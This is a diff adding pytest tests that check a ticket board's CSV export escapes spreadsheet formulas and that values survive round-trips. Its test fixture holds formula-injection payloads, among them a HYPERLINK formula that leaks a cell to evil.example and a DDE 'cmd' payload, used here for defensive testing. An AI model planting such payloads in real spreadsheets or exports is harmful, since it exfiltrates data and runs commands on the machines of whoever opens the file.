@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -98,3 +100,50 @@ def test_a_file_that_is_neither_csv_nor_json_list_says_so(tmp_path):
     broken.write_text("[{")
     with pytest.raises(BoardError, match="not valid JSON"):
         read_rows(broken)
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "description": "+cmd|' /C calc'!A0",
+    "acceptance_criteria": ["-2+3", "@SUM(1+1)", "'=already quoted", "plain"],
+    "labels": ["=x", "ok"],
+}
+
+
+async def test_a_csv_export_runs_no_formula_and_imports_back_unchanged(board, tmp_path):
+    from stores.spreadsheet_cells import FORMULA_STARTS
+
+    fields = {k: v for k, v in HOSTILE.items() if k != "title"}
+    await board.upsert(HOSTILE["title"], fields, by="t")
+    text = export_rows(await board.tickets(), "csv")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert cells and not [c for c in cells if c[:1] in FORMULA_STARTS]
+    path = tmp_path / "out.csv"
+    path.write_text(text)
+    copy = Board(InMemoryStore(), "core")
+    report = await import_rows(copy, read_rows(path), by="t")
+    assert report.imported == ["CORE-1"] and not report.rejected
+    ticket = await copy.ticket("CORE-1")
+    assert ticket.title == HOSTILE["title"]
+    assert ticket.description == HOSTILE["description"]
+    assert ticket.acceptance_criteria == HOSTILE["acceptance_criteria"]
+    assert ticket.labels == HOSTILE["labels"]
+
+
+@pytest.mark.parametrize(
+    "value", ["", "'", "''", "=1+1", "'=1+1", "''=1", "-2", "\t=x", "\rx", "＝1", "'hi", "a=b"]
+)
+def test_every_value_survives_escaping_and_no_escaped_cell_is_a_formula(value):
+    from stores.spreadsheet_cells import FORMULA_STARTS, escape_cell, unescape_cell
+
+    cell = escape_cell(value)
+    assert cell[:1] not in FORMULA_STARTS
+    assert unescape_cell(cell) == value
+
+
+async def test_list_markers_are_dropped_but_a_leading_minus_is_kept(board, tmp_path):
+    source = tmp_path / "in.csv"
+    source.write_text('title,acceptance_criteria\nT,"- first\n* second\n-2+3"\n')
+    report = await import_rows(board, read_rows(source), by="t")
+    ticket = await board.ticket(report.imported[0])
+    assert ticket.acceptance_criteria == ["first", "second", "-2+3"]
